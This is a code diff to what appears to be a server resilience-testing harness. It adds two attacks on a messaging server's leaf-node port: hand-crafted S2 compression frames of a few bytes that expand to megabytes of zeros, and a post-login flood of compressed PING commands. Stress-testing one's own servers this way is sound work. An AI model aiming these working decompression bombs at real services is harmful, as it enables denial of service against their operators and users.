@@ -18,10 +18,14 @@ from collections.abc import Awaitable, Callable
 from dataclasses import dataclass, field
 from typing import Final
 
+from crc32c import crc32c
+
 ANSWERED_WITHIN_S = 60.0
 AT_ONCE: Final = 250  # connections that are being opened
 GIANT_BYTES: Final = 8 * 1024 * 1024
 BOMB_BYTES: Final = 64 * 1024 * 1024
+BOMB_BLOCKS: Final = 64  # of S2, each of S2_BLOCK_BYTES
+S2_BLOCK_BYTES: Final = 4 * 1024 * 1024
 USER: Final = {"user": "good", "pass": "good"}
 
 Hold = Callable[[], Awaitable[None]]
@@ -319,6 +323,64 @@ async def compression_bombs(target: Target, count: int, hold: Hold) -> Outcome:
     return await _websockets(target, count, hold, send)
 
 
+async def leaf_bombs(target: Target, count: int, hold: Hold) -> Outcome:
+    """Compress a leaf link, and send before the login few bytes that stand for 4 MiB of zeros."""
+    return await _compressed_leaves(target, count, hold, _s2_bomb(b"\0") * BOMB_BLOCKS)
+
+
+async def leaf_floods(target: Target, count: int, hold: Hold) -> Outcome:
+    """Log in over a compressed leaf link, and send few bytes that stand for 4 MiB of PINGs."""
+    login = USER | {"version": "2.15.1", "name": "flood", "server_id": "H", "headers": True}
+    connect = b"CONNECT " + json.dumps(login).encode() + b"\r\nPING\r\n"
+    begin = _s2_frame(0x01, connect, connect)
+    return await _compressed_leaves(
+        target, count, hold, begin + _s2_bomb(b"PING\r\n") * BOMB_BLOCKS
+    )
+
+
+async def _compressed_leaves(target: Target, count: int, hold: Hold, data: bytes) -> Outcome:
+    outcome = Outcome()
+    asked = {"server_id": "H", "compression": "s2_fast", "proto": 1}
+
+    async def one(foe: Foe) -> None:
+        await foe.info()
+        await foe.send(b"INFO " + json.dumps(asked).encode() + b"\r\n")
+        await foe.until(b"S2sTwO")  # both directions are S2 from here on
+        await foe.send(_S2_BEGIN + data)
+
+    foes = await _open(target.leaf_port, count, outcome)
+    await _all(foes, one)
+    return await _finish(foes, outcome, hold)
+
+
+_S2_BEGIN: Final = b"\xff\x06\x00\x00S2sTwO"
+
+
+def _s2_bomb(pattern: bytes) -> bytes:
+    """Return a frame of a few bytes that stands for at most 4 MiB of a pattern."""
+    size = S2_BLOCK_BYTES // len(pattern) * len(pattern)
+    rest = size - len(pattern) - 4  # behind a literal, and a copy of four bytes
+    repeat = b"\x1d\x00" + (rest - 4 - 65536).to_bytes(3, "little")
+    literal = bytes((len(pattern) - 1 << 2,)) + pattern
+    block = _varint(size) + literal + bytes((0x01, len(pattern))) + repeat
+    return _s2_frame(0x00, block, pattern * (size // len(pattern)))
+
+
+def _s2_frame(kind: int, body: bytes, content: bytes) -> bytes:
+    crc = crc32c(content)
+    masked = ((crc >> 15 | crc << 17) + 0xA282EAD8) & 0xFFFFFFFF
+    head = bytes((kind,)) + (len(body) + 4).to_bytes(3, "little")
+    return head + masked.to_bytes(4, "little") + body
+
+
+def _varint(value: int) -> bytes:
+    out = bytearray()
+    while value >= 0x80:
+        out.append(value & 0x7F | 0x80)
+        value >>= 7
+    return bytes(out) + bytes((value,))
+
+
 def _deflated(data: bytes) -> bytes:
     packer = zlib.compressobj(9, wbits=-15)
     return (packer.compress(data) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]
@@ -391,6 +453,8 @@ ATTACKS: Final[dict[str, tuple[Attack, int]]] = {
     "endless_frames": (endless_frames, 20),
     "endless_fragments": (endless_fragments, 100),
     "compression_bombs": (compression_bombs, 50),
+    "leaf_bombs": (leaf_bombs, 50),
+    "leaf_floods": (leaf_floods, 25),
     "subscriptions": (subscriptions, 1_000_000),
     "readers_that_read_nothing": (readers_that_read_nothing, 20),
 }
